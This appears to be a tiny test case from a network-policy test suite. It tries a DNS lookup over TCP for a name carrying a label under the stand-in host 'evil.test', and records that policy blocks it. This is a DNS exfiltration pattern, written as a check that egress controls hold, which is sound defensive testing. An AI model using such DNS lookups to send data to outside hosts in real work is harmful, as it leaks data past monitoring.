# SPDX-License-Identifier: Apache-2.0
"""The same over TCP.

unheard: no server answers behind a plain node
recorded: 4=~policy 6=~policy
"""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', to=a.gateway, tcp=True)


attempt(way)
